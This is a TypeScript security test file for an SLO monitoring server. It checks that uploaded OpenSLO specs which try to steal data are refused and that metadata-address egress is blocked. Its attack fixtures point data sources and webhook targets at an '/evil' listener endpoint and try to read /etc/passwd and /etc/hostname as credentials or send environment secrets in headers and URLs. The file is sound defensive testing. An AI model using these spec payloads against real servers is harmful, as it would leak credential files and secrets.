// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${VAR} in spec text is the attack under test
/**
 * Trust by origin (issue 14, finding 1), on both databases, against a real loopback listener: the
 * exfiltration attempts through PUT /api/v1/specs (server files as credentials, environment
 * variables in headers, URL and notification targets) answer 400 naming file:line:column and store
 * nothing, and the listener receives nothing after pull and delivery intervals; a row written
 * before the fix is refused on load while the others keep working; connections configured on the
 * server (config file, spec directory) still work; a remote error's body never reaches the API or
 * the database; link-local and metadata addresses and what egress.allow leaves out are refused.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WebhookPayload } from '../src/notifications/outbox.js';
import { DIALECTS } from './support/databases.js';
import { Listener, REMOTE_SECRET } from './support/listener.js';
import { type JsonBody, json, ManualClock, startTestServer, type TestServer } from './support/server.js';

const NOW = Date.UTC(2026, 9, 2, 0, 0);
/** Values the attacks try to steal: if any reaches the listener, the test fails. */
const STOLEN_ENV = 'SHINRAI_TEST_STOLEN_SECRET';
const STOLEN_VALUE = 'stolen-env-value-7f3a';
const DISK_TOKEN = 'disk-token-value-1c9e';
const CONFIG_TOKEN = 'config-token-value-55d0';

const dataSource = (name: string, details: string) => `apiVersion: openslo/v1
kind: DataSource
metadata: { name: ${name} }
spec:
  type: Prometheus
  connectionDetails: ${details}
`;

const pulledSlo = (name: string, source: string) => `apiVersion: openslo/v1
kind: SLO
metadata: { name: ${name} }
spec:
  service: shop
  budgetingMethod: Occurrences
  timeWindow: [{ duration: 1d, isRolling: true }]
  indicator:
    metadata: { name: ${name}-requests }
    spec:
      ratioMetric:
        counter: true
        good: { metricSource: { metricSourceRef: ${source}, spec: { query: 'http_requests_total{code="200"}' } } }
        total: { metricSource: { metricSourceRef: ${source}, spec: { query: http_requests_total } } }
  objectives: [{ target: 0.99 }]
`;

const target = (name: string, annotations: string) => `apiVersion: openslo/v1
kind: AlertNotificationTarget
metadata:
  name: ${name}
  annotations: ${annotations}
spec: { target: webhook }
`;

/** The attempts of the report, each an upload that points at the listener under /evil. */
const attacks = (base: string): Array<[string, string]> => [
  [
    'basicAuth.passwordFile: /etc/passwd',
    dataSource('evil', `{ url: '${base}/evil', basicAuth: { username: x, passwordFile: /etc/passwd } }`),
  ],
  [
    'bearerTokenFile: /etc/hostname',
    dataSource('evil', `{ url: '${base}/evil', bearerTokenFile: /etc/hostname }`),
  ],
  [
    'an environment variable in a header',
    dataSource('evil', `{ url: '${base}/evil', headers: { X-Api-Key: '\${${STOLEN_ENV}}' } }`),
  ],
  [
    'an environment variable in the query string',
    dataSource('evil', `{ url: '${base}/evil?key=\${${STOLEN_ENV}}' }`),
  ],
  ['a plain URL (a new destination)', dataSource('evil', `{ url: '${base}/evil' }`)],
  ['a target URL with ${ENV}', target('evil', `{ shinrai.dev/url: '${base}/evil?k=\${${STOLEN_ENV}}' }`)],
  [
    'a target secret with ${ENV}',
    target('evil', `{ shinrai.dev/url: '${base}/evil', shinrai.dev/secret: '\${${STOLEN_ENV}}' }`),
  ],
];

function payload(id: string): WebhookPayload {
  return {
    version: 1,
    id,
    status: 'firing',
    at: new Date(NOW).toISOString(),
    alert: {
      id: 'fp',
      slo: 'disk-slo',
      service: 'shop',
      rule: 'page',
      tier: 'page',
      severity: 'critical',
      labels: {},
      annotations: {},
      burnRates: {},
      firedAt: null,
      resolvedAt: null,
    },
  };
}

describe.each(DIALECTS)('specs uploaded through the API on %s', (dialect) => {
  const listener = new Listener();
  let dir: string;
  let server: TestServer;
  let editor: string;

  beforeAll(async () => {
    process.env[STOLEN_ENV] = STOLEN_VALUE;
    process.env.SHINRAI_TEST_DISK_TOKEN = DISK_TOKEN;
    process.env.SHINRAI_TEST_CONFIG_TOKEN = CONFIG_TOKEN;
    await listener.listen();
    dir = await mkdtemp(join(tmpdir(), 'shinrai-trust-'));
    // On the server's disk: trusted, may use secrets.
    await writeFile(
      join(dir, 'disk.yaml'),
      [
        dataSource(
          'disk-prom',
          `{ url: '${listener.url}/disk', headers: { X-Token: '\${SHINRAI_TEST_DISK_TOKEN}' } }`,
        ),
        pulledSlo('disk-slo', 'disk-prom'),
        dataSource('failing-prom', `{ url: '${listener.url}/fail' }`),
        pulledSlo('failing-slo', 'failing-prom'),
        dataSource('metadata-prom', `{ url: 'http://169.254.169.254/latest' }`),
        pulledSlo('metadata-slo', 'metadata-prom'),
        target('failing-hook', `{ shinrai.dev/url: '${listener.url}/fail-hook' }`),
        target('metadata-hook', `{ shinrai.dev/url: 'http://169.254.169.254/hook' }`),
      ].join('---\n'),
    );
    server = await startTestServer(dialect, {
      specs: dir,
      clock: new ManualClock(NOW),
      anonymousRead: true,
      config: {
        'prometheus.retries': 0,
        'prometheus.delaySeconds': 0,
        'prometheus.intervalSeconds': 1,
        'alerting.deliveryIntervalSeconds': 1,
        'connections.cfg-prom': {
          url: `${listener.url}/cfg`,
          headers: { 'X-Config-Token': '${SHINRAI_TEST_CONFIG_TOKEN}' },
        },
      },
    });
    editor = await server.token('editor');
  }, 60_000);

  afterAll(async () => {
    await server?.close();
    await listener.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it.each(attacks('http://127.0.0.1:1').map(([what]) => [what]))(
    'refuses an upload with %s: 400 at file:line:column, nothing stored',
    async (what) => {
      const text = attacks(listener.url).find(([w]) => w === what)![1];
      const response = await server.request('PUT', '/api/v1/specs', {
        token: editor,
        body: { files: [{ path: 'evil.yaml', content: `${text}---\n${pulledSlo('evil-slo', 'evil')}` }] },
      });
      expect(response.status).toBe(400);
      expect(response.headers.get('content-type')).toContain('application/problem+json');
      const problem = (await response.json()) as JsonBody;
      expect(problem.detail).toMatch(/^api:evil\.yaml:\d+:\d+: /);
      expect(problem.detail).toContain('connections.<name> in the config file');
      expect(problem.detail).toContain('Nothing was stored.');
      expect(problem.errors[0].field).toMatch(/^api:evil\.yaml:\d+:\d+$/);
      expect(JSON.stringify(problem)).not.toContain(STOLEN_VALUE);
      const specs = (await json(server.request('GET', '/api/v1/specs'))) as JsonBody;
      expect(specs.files.filter((f: string) => f.startsWith('api:'))).toEqual([]);
    },
  );

  it('a connection configured on the server works: in the spec directory, and named from an upload', async () => {
    const upload = await server.request('PUT', '/api/v1/specs', {
      token: editor,
      body: {
        files: [
          {
            path: 'team.yaml',
            content: `${dataSource('team-prom', '{ connection: cfg-prom }')}---\n${pulledSlo('team-slo', 'team-prom')}`,
          },
        ],
      },
    });
    expect(upload.status).toBe(200);
    expect(
      ((await upload.json()) as JsonBody).diagnostics.filter((d: JsonBody) => d.severity === 'error'),
    ).toEqual([]);
    await server.shinrai.puller.cycle();
    const disk = listener.requests.find((r) => r.url.startsWith('/disk/api/v1/query_range'));
    expect(disk?.headers['x-token']).toBe(DISK_TOKEN);
    const configured = listener.requests.find((r) => r.url.startsWith('/cfg/api/v1/query_range'));
    expect(configured?.headers['x-config-token']).toBe(CONFIG_TOKEN);
  });

  it('a row stored before the fix is refused on load; the listener receives nothing from it, the others keep working', async () => {
    await server.shinrai.ctx.db.kysely
      .insertInto('spec_files')
      .values({
        path: 'old-evil.yaml',
        content: `${attacks(listener.url)[0]![1]}---\n${pulledSlo('old-evil-slo', 'evil')}---\n${attacks(listener.url)[5]![1]}`,
        updated_at: NOW,
      })
      .execute();
    const loaded = await server.shinrai.ctx.specs.reload();
    const errors = loaded.diagnostics.filter((d) => d.file === 'api:old-evil.yaml' && d.severity === 'error');
    expect(errors.map((d) => d.rule)).toEqual(
      expect.arrayContaining(['upload/connection', 'upload/file-reference', 'upload/notification-target']),
    );
    expect(loaded.catalog.dataSources.map((d) => d.name)).not.toContain('evil');
    expect(loaded.catalog.slos.map((s) => s.id)).toEqual(expect.arrayContaining(['disk-slo', 'team-slo']));
    // A notification queued for its target is not delivered either (the next test waits for it).
    await server.shinrai.ctx.db.kysely
      .insertInto('notification_outbox')
      .values({
        id: 'n-evil',
        target: 'evil',
        fingerprint: 'n-evil',
        transition: 'firing',
        payload: JSON.stringify(payload('n-evil')),
        created_at: NOW,
        attempts: 0,
        next_attempt_at: NOW,
        delivered_at: null,
        gave_up_at: null,
        last_error: null,
      })
      .execute();
  });

  it('the listener received nothing from the attempts, after pull and delivery intervals', async () => {
    await server.shinrai.puller.cycle();
    await server.shinrai.deliverer.cycle();
    // Past the 1 s pull and delivery intervals: the loops ran by themselves too.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    expect(listener.requests.filter((r) => r.url.startsWith('/evil'))).toEqual([]);
    const everything = listener.received();
    expect(everything).not.toContain(STOLEN_VALUE);
    expect(everything).not.toContain('root:');
    // No trusted source uses credentials: any Authorization header came from a server file.
    expect(listener.requests.filter((r) => r.headers.authorization !== undefined)).toEqual([]);
    // The trusted sources kept being read.
    expect(listener.requests.some((r) => r.url.startsWith('/disk/'))).toBe(true);
    const db = server.shinrai.ctx.db.kysely;
    const evil = await db
      .selectFrom('notification_outbox')
      .select('last_error')
      .where('id', '=', 'n-evil')
      .execute();
    expect(evil).toEqual([{ last_error: 'no deliverable target named evil in the loaded specs' }]);
    await db.deleteFrom('notification_outbox').where('id', '=', 'n-evil').execute();
    await db.deleteFrom('spec_files').where('path', '=', 'old-evil.yaml').execute();
    await server.shinrai.ctx.specs.reload();
  }, 20_000);

  it('a remote error is summarised in the API: status and reason, never the body', async () => {
    await server.shinrai.puller.cycle();
    await server.shinrai.evaluator.tick();
    const status = ((await json(server.request('GET', '/api/v1/slos/failing-slo'))) as JsonBody).status[0];
    expect(status.data).toMatchObject({ state: 'no-data', retrying: true });
    expect(status.data.lastError).toBe(`${listener.url} answered HTTP 500 Internal Server Error`);
    const cursors = await server.shinrai.ctx.db.kysely
      .selectFrom('source_cursors')
      .select('last_error')
      .execute();
    expect(JSON.stringify(cursors)).not.toContain(REMOTE_SECRET);
  });

  it('refuses the metadata address by default for pulls and deliveries, and counts it', async () => {
    const status = ((await json(server.request('GET', '/api/v1/slos/metadata-slo'))) as JsonBody).status[0];
    expect(status.data.lastError).toBe(
      'egress refused: 169.254.169.254 is a link-local or metadata address, not allowed by egress.allow',
    );
    const db = server.shinrai.ctx.db.kysely;
    for (const [id, target] of [
      ['n-fail', 'failing-hook'],
      ['n-meta', 'metadata-hook'],
    ] as const)
      await db
        .insertInto('notification_outbox')
        .values({
          id,
          target,
          fingerprint: id,
          transition: 'firing',
          payload: JSON.stringify(payload(id)),
          created_at: NOW,
          attempts: 0,
          next_attempt_at: NOW,
          delivered_at: null,
          gave_up_at: null,
          last_error: null,
        })
        .execute();
    await server.shinrai.deliverer.cycle();
    const rows = await db
      .selectFrom('notification_outbox')
      .select(['id', 'last_error'])
      .where('id', 'in', ['n-fail', 'n-meta'])
      .orderBy('id')
      .execute();
    expect(rows).toEqual([
      { id: 'n-fail', last_error: 'failing-hook answered HTTP 500 Internal Server Error' },
      {
        id: 'n-meta',
        last_error:
          'metadata-hook: egress refused: 169.254.169.254 is a link-local or metadata address, not allowed by egress.allow',
      },
    ]);
    const metrics = await (await server.request('GET', '/metrics')).text();
    expect(metrics).toMatch(/shinrai_egress_refused_total\{client="prometheus"\} [1-9]/);
    expect(metrics).toMatch(/shinrai_egress_refused_total\{client="notifications"\} [1-9]/);
    await db.deleteFrom('notification_outbox').where('id', 'in', ['n-fail', 'n-meta']).execute();
  });
});

describe('egress.allow on a running server', () => {
  const listener = new Listener();
  let dir: string;
  let server: TestServer;

  beforeAll(async () => {
    await listener.listen();
    dir = await mkdtemp(join(tmpdir(), 'shinrai-egress-'));
    await writeFile(
      join(dir, 'disk.yaml'),
      [
        // `localhost` resolves to a loopback address, which egress.allow leaves out.
        dataSource('by-name', `{ url: 'http://localhost:${listener.port}/by-name' }`),
        pulledSlo('by-name-slo', 'by-name'),
      ].join('---\n'),
    );
    server = await startTestServer('sqlite', {
      specs: dir,
      clock: new ManualClock(NOW),
      anonymousRead: true,
      config: {
        'prometheus.retries': 0,
        'prometheus.delaySeconds': 0,
        'egress.allow': '10.0.0.0/8, prometheus.internal',
      },
    });
  }, 60_000);

  afterAll(async () => {
    await server?.close();
    await listener.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('refuses a host that resolves outside the list, after DNS; the listener receives nothing', async () => {
    await server.shinrai.puller.cycle();
    await server.shinrai.evaluator.tick();
    const status = ((await json(server.request('GET', '/api/v1/slos/by-name-slo'))) as JsonBody).status[0];
    expect(status.data.lastError).toMatch(
      /^egress refused: localhost \((127\.0\.0\.1|::1)\) is not allowed by egress\.allow$/,
    );
    expect(listener.requests).toEqual([]);
    const metrics = await (await server.request('GET', '/metrics')).text();
    expect(metrics).toMatch(/shinrai_egress_refused_total\{client="prometheus"\} [1-9]/);
  });
});
